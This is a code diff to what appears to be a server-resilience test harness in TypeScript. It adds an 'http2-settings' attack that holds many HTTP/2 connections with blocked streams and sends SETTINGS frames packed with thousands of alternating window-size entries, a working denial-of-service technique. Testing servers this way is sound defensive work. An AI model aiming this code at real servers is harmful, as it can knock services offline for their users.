@@ -60,6 +60,14 @@ const STREAMS = 200;
 /** More than anybody may send. */
 const FLOOD_FRAMES = 3000;
 
+/** As many as one frame has room for, nearly. */
+const SETTINGS_ENTRIES = 2600;
+
+/** INITIAL_WINDOW_SIZE entries that open and close a window in turn. */
+function windowEntries(count: number): Buffer {
+  return Buffer.concat(Array.from({ length: count }, (_, index) => Buffer.of(0, 4, 0, 0, 0, index % 2)));
+}
+
 /** Below what an address may have. */
 const SESSIONS_PER_ADDRESS = 20;
 
@@ -278,6 +286,22 @@ export const attacks: Readonly<Record<string, Attack>> = {
   "http2-floods": (victim, count, tally) => {
     const frames = [frame(Type.settings, 0, 0), frame(Type.ping, 0, 0, new Uint8Array(8))];
     return floodAgain(victim, count, tally, (_, index) => frames[index % frames.length]);
+  },
+
+  /**
+   * SETTINGS frames whose entries change every stream's window, on connections whose streams are all blocked. Each entry
+   * once took a step for every stream.
+   */
+  "http2-settings": async (victim, count, tally) => {
+    const settings = frame(Type.settings, 0, 0, windowEntries(SETTINGS_ENTRIES));
+    const again = async (index: number): Promise<void> => {
+      const socket = await dialHttp2(victim, 1 + index, tally);
+      if (socket === null) return void setTimeout(again, 50, index);
+      socket.once("close", () => void again(index));
+      for (let stream = 0; stream < STREAMS; stream++) socket.write(getByHttp2(victim, "/large", 2 * stream + 1));
+      sendWithoutEnd(socket, settings, tally);
+    };
+    await Promise.all(Array.from({ length: count }, (_, index) => again(index)));
   },
 
   /** Visitors who come and go. */
